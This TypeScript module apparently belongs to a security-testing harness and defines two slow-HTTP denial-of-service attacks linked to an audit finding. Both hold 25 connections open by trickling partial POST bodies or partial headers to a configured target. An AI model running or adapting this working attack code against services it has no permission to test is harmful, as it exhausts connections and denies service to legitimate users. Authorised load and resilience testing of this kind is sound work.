import { loop, type Attack } from '../attackers/attack.ts';
import { holdOpen } from './hold-open.ts';

export const slowBodies: Attack = {
  name: 'slow-bodies',
  finding: 'M7',
  about: 'Sends the bodies of 25 log-ins, a byte every two seconds.',
  async run(attacker, context) {
    const { host, port } = attacker.target;
    const header = `POST /v1/sessions HTTP/1.1\r\nHost: ${host}:${port}\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{`;
    await loop(context, { concurrency: 25, pauseMs: 1_000 }, () => holdOpen(attacker, context, header));
  },
};

export const slowHeaders: Attack = {
  name: 'slow-headers',
  finding: 'M7',
  about: 'Sends the headers of 25 requests, a byte every two seconds.',
  async run(attacker, context) {
    const beginning = `GET /v1/me HTTP/1.1\r\nHost: ${attacker.target.host}\r\nX-Slow: `;
    await loop(context, { concurrency: 25, pauseMs: 1_000 }, () => holdOpen(attacker, context, beginning));
  },
};
